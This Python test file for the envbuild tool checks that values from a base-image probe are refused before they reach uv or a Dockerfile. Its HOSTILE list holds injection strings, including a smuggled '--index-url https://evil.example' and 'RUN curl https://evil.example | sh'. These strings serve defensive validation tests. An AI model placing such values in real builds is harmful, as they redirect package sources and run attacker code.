"""Nothing from a base image's probe reaches uv or the Dockerfile unchecked (docs/reliability.md,
"Round 3"): the names, versions, paths and OS name a framework base's probe prints
(envbuild/payload/base_probe.py, read by envbuild/resolver/base.py) pass the request's own
grammar (envbuild/core/values.py), or `lock` stops with exit 2 before uv starts."""

from __future__ import annotations

import json
from collections.abc import Mapping, Sequence
from pathlib import Path
from typing import Any

import pytest

from envbuild.app import lock_base
from envbuild.core.errors import EnvbuildError
from envbuild.core.models import Request, Targets
from envbuild.engine.protocol import RunResult
from envbuild.lock.assemble import LockPins, assemble_lock
from envbuild.lock.pins import RunResult as UvResult
from envbuild.matrix import load_matrix_from
from envbuild.payload.base_probe import MARKER
from envbuild.render.dockerfile import RenderOptions, render_dockerfile
from envbuild.resolver import base as framework_base
from tests.unit.fakes import FakeEngine

RECORDED = Path(__file__).resolve().parents[1] / "fixtures" / "bases"
PROBE: dict[str, Any] = json.loads(
    (RECORDED / "cpu-torch-2.13.0-debian12.txt").read_text().split(MARKER, 1)[1]
)
REF = "team/torch-base:1"
IMAGE_ID = "sha256:" + "a" * 64

HOSTILE: list[tuple[str, Any]] = [
    ("packages", {**PROBE["packages"], "six\n--index-url https://evil.example/simple": "1.0"}),
    ("packages", {**PROBE["packages"], "--extra-index-url=https://evil.example": "1.0"}),
    ("packages", {**PROBE["packages"], "six": "1.16.0\n--index-url https://evil.example"}),
    ("packages", {**PROBE["packages"], "six": "1.16.0 --no-deps"}),
    ("packages", {**PROBE["packages"], "six": 1}),
    ("packages", {**PROBE["packages"], "x" * 300: "1.0"}),
    ("os", "debian12\nRUN curl https://evil.example | sh"),
    ("os", "debian12\n"),
    ("os", "Debian GNU/Linux 12"),
    ("python_path", "/opt/fw/bin/python3\n"),
    ("python", "3.11\n"),
    ("cuda", "12.8\nRUN id"),
    ("cudnn", "9.1.0\n"),
    ("archs", ["sm_90\n", "sm_80"]),
    ("version", "2.13.0\n"),
]


def _stdout(**over: Any) -> str:
    return MARKER + json.dumps({**PROBE, **over}) + "\n"


@pytest.mark.parametrize(
    ("key", "value"), HOSTILE, ids=[f"{k}-{i}" for i, (k, _) in enumerate(HOSTILE)]
)
def test_a_hostile_probe_value_is_refused(key: str, value: Any) -> None:
    with pytest.raises(framework_base.ProbeError) as info:
        framework_base.parse_probe(_stdout(**{key: value}), ref=REF, framework="torch")
    assert info.value.exit_code == 2
    assert "\n" not in info.value.message.split(":", 1)[0]


def test_lock_stops_before_uv_on_a_hostile_probe(tmp_path: Path) -> None:
    """Through the lock use case: the probe runs in the (fake) engine, its facts are refused,
    and uv is never started."""
    image = tmp_path / "image"
    image.mkdir()
    uv: list[Sequence[str]] = []

    def runner(argv: Sequence[str], cwd: Path, env: Mapping[str, str]) -> UvResult:
        uv.append(argv)
        return UvResult(1, "", "not expected")

    engine = FakeEngine(
        run_result=RunResult(0, _stdout(packages={"six\n--index-url https://evil": "1"}), "")
    )
    engine.images[REF] = {}
    request = Request(
        framework="torch",
        base=REF,
        packages=("requests",),
        device="cpu",
        targets=Targets(gpus=(), driver=None),
    )
    with pytest.raises(EnvbuildError) as info:
        lock_base.lock_framework_base(
            image, request, matrix=load_matrix_from(None), engine=engine, runner=runner
        )
    assert info.value.exit_code == 2 and "six" in info.value.message
    assert uv == []
    assert not (image / "envbuild.lock").exists()


def test_what_lock_accepts_from_a_probe_render_renders() -> None:
    """The recorded probe (and each accepted odd value) goes through render too."""
    matrix = load_matrix_from(None)
    for over in ({}, {"os": ""}, {"packages": {**PROBE["packages"], "zope.interface": "7.1"}}):
        facts = framework_base.parse_probe(
            _stdout(**over), ref=REF, framework="torch", image_id=IMAGE_ID
        )
        request = Request(
            framework="torch",
            name="probed",
            base=REF,
            device="cpu",
            targets=Targets(gpus=(), driver=None),
        )
        stack = framework_base.stack_for_base(request, facts, matrix, None)
        lock = assemble_lock(
            request,
            stack,
            LockPins(packages=(), index_url=None, extra_index_urls=()),
            matrix_fingerprints=matrix.fingerprints(),
            base_facts=facts,
            base_digest=None,
        )
        assert "FROM" in render_dockerfile(lock, options=RenderOptions())
